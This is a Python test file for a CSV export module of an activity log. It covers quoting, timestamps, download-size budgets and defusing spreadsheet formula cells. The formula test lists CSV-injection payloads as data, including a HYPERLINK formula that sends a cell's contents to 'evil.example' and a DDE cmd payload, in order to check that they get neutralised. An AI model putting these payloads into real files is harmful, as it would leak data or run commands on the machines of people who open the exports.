"""CSV rendering (document 003): header, Submit Time form, RFC 4180 quoting, formula
cells neutralised (issue 19), the answer budget (issue 20 item 4)."""
from __future__ import annotations

import csv as csv_module
import io

import pytest

from chalicelib import answer_budget
from chalicelib.activity import csv
from chalicelib.activity.model import Commit, Entity


def make(message, objects=(Entity("g", "web", "node_groups"),), events=None):
    return Commit(service_id="classifier", subject=Entity("k", "kai", None), objects=objects,
                  timestamp="2019-03-05T18:52:27.760000Z", ip_address="10.0.0.1",
                  events=events if events is not None else ({"type": "edit", "message": message},),
                  sequence=1)


def test_quotes_commas_quotes_and_newlines():
    text = csv.render([make('a, "b"\nc')], 1).text
    assert text.splitlines()[1].endswith(',edit,,,"a, ""b""')


def test_submit_time_and_default_subject_type():
    row = next(csv.rows([make("m")], 1))
    assert row[:2] == ["2019-03-05 18:52:27.76", "users"]


def test_v2_has_a_row_per_object_and_event_with_ip():
    objects = (Entity("a", "A", "node"), Entity("b", "B", "node"))
    rows = list(csv.rows([make("m", objects, ({"message": "1"}, {"message": "2"}))], 2))
    assert [(r[5], r[10], r[11]) for r in rows] == [("a", "1", "10.0.0.1"), ("a", "2", "10.0.0.1"),
                                                    ("b", "1", "10.0.0.1"), ("b", "2", "10.0.0.1")]


def test_commit_without_events_still_has_a_row():
    assert len(list(csv.rows([make("m", events=())], 1))) == 1


def test_submit_time_has_at_most_three_fractional_digits():
    commit = make("m")._replace(timestamp="2026-11-30T23:29:49.808832Z")
    assert next(csv.rows([commit], 1))[0] == "2026-11-30 23:29:49.808"


@pytest.mark.parametrize("cell", ['=HYPERLINK("http://evil.example/?x="&A1,"click")',
                                  "@SUM(1+1)*cmd|'/C calc'!A0", "+1+2", "-3", "\tx", "\rx",
                                  "'quoted"])
def test_a_formula_cell_gets_a_leading_quote(cell):
    row = next(csv.rows([make(cell)], 1))
    assert row[-1] == "'" + cell


def test_raw_writes_the_exact_text():
    assert next(csv.rows([make("=1+1")], 1, raw=True))[-1] == "=1+1"


def test_plain_text_is_unchanged():
    assert next(csv.rows([make("a = b - c")], 1))[-1] == "a = b - c"


def _many(count, events_each=1, message="m" * 100):
    return [make(message, events=({"message": message},) * events_each)._replace(sequence=i)
            for i in range(count)]


def test_a_download_stops_at_a_whole_commit_before_the_budget():
    download = csv.render(_many(50, events_each=3), 1, limit=2000)
    rows = list(csv_module.reader(io.StringIO(download.text)))
    assert answer_budget.cost(download.text) <= 2000
    assert 0 < download.commits < 50 and len(rows) == 1 + 3 * download.commits
    assert download.next_offset(10, 50) == 10 + download.commits and not download.truncated


def test_a_download_within_the_budget_has_no_next_offset():
    download = csv.render(_many(3), 2, limit=100_000)
    assert download.commits == 3 and download.next_offset(0, 3) is None


def test_a_first_commit_larger_than_the_budget_is_cut_at_a_row_and_skipped_next():
    download = csv.render(_many(2, events_each=1000), 2, limit=5000)
    assert download.truncated and answer_budget.cost(download.text) <= 5000
    assert download.text.endswith("\r\n") and download.next_offset(7, 2) == 8


def test_a_stored_lone_surrogate_cannot_break_the_download():
    text = csv.render([make("bad \ud800 text")], 1).text
    assert "bad \ufffd text" in text and text.encode("utf-8")
